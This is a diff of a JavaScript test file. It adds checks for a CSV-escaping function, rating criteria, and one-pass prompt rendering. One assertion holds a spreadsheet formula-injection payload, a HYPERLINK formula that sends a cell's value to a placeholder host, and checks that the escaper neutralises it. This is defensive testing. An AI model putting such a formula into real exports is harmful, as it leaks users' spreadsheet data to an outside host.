@@ -17,6 +17,8 @@ test("CSV fields are quoted when needed and formulas are neutralised", () => {
   assert.equal(csvField("line\nbreak"), '"line\nbreak"');
   assert.equal(csvField("=HYPERLINK(1)"), "'=HYPERLINK(1)");
   assert.equal(csvField("-2"), "-2");
+  assert.equal(csvField("-1.5"), "-1.5");
+  assert.equal(csvField('-1+HYPERLINK("https://x/?"&A2,"x")'), `"'-1+HYPERLINK(""https://x/?""&A2,""x"")"`);
   assert.equal(csvField(null), "");
   assert.equal(csvField(new Date("2026-01-02T03:04:05Z")), "2026-01-02T03:04:05.000Z");
 });
@@ -34,4 +36,9 @@ test("the five criteria of the paper, each with a definition and scale ends", ()
   for (const c of CRITERIA) assert.ok(c.definition && c.low && c.high);
   assert.equal(isComplete({ understandability: 1, coherence: 2, relevance: 3, conciseness: 4, clinicalUtility: 5 }), true);
   assert.equal(isComplete({ understandability: 1, coherence: 2, relevance: 3, conciseness: 4, clinicalUtility: null }), false);
+});
+
+test("prompts are rendered in one pass: findings are inserted as written", async () => {
+  const { renderPrompt } = await import("../../lib/llm-config.ts");
+  assert.equal(renderPrompt("F: {{findings}} I: {{indication}}", { findings: "cost $& {{indication}}", metadata: { indication: "cough" } }), "F: cost $& {{indication}} I: cough");
 });
